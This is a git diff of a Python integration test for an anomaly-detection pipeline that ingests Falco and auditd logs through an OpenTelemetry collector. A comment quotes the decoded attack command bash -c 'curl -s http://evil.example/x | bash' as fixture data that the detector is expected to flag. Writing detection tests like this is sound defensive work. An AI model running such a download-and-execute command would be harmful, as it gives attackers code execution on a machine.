@@ -6,15 +6,15 @@ from __future__ import annotations
 
 import json
 import subprocess
-import sysconfig
 import time
 from pathlib import Path
 
 import pytest
 from conftest import Stack, write_config
 
+from testing import OTELCOL_CONTRIB as OTELCOL
+
 TESTDATA = Path(__file__).parent / "testdata"
-OTELCOL = Path(sysconfig.get_paths()["purelib"]) / "otel_collector" / "bin" / "otelcol-contrib_linux_amd64"
 
 
 def otelcol_config(files: list[Path], procsight_http: str) -> dict:
@@ -67,14 +67,15 @@ def test_otelcol_filelog_falco_and_auditd_through_otlphttp(stack: Stack, tmp_pat
     assert falco_shell["Workload"] == "web" and falco_shell["AnomalySeverity"] in ("warn", "alert")
     assert falco_shell["AnomalyScore"] > scored[falco_lines[0]]["AnomalyScore"]
     assert json.loads(falco_shell["LogAttributes"]["anomaly_reasons"])
-    # auditd: the SYSCALL/EXECVE pair of one exec is scored once, on its EXECVE record, with the hex argv
-    # decoded (bash -c 'curl -s http://evil.example/x | bash')
+    # auditd: each exec is scored once, on the record that completes it (the EOE that ends 7781, whose
+    # SYSCALL announced PATH records; the EXECVE of 7790, whose SYSCALL did not), with the hex argv decoded
+    # (bash -c 'curl -s http://evil.example/x | bash') and the CWD record's directory
     audit_scored = {body: row for body, row in scored.items() if body in audit_lines}
-    assert sorted(audit_scored) == sorted(line for line in audit_lines if line.startswith("type=EXECVE"))
-    attack, routine = (audit_scored[line] for line in audit_lines if line.startswith("type=EXECVE"))
+    completing = [line for line in audit_lines if line.startswith(("type=EOE", "type=EXECVE msg=audit(1795528934"))]
+    assert sorted(audit_scored) == sorted(completing)
+    attack, routine = (audit_scored[line] for line in completing)
     assert attack["AnomalySeverity"] == "alert" and attack["AnomalyScore"] > routine["AnomalyScore"]
     assert any("download piped into bash" in r for r in json.loads(attack["LogAttributes"]["anomaly_reasons"]))
-    # the auxiliary auditd records (CWD, EOE) pass through unscored
-    assert all(body not in scored for body in audit_lines if "type=CWD" in body or "type=EOE" in body)
+    assert attack["LogAttributes"]["process.working_directory"] == "/root"
 
     assert sorted(r.body.string_value for r in forwarded) == sorted(falco_lines + audit_lines)
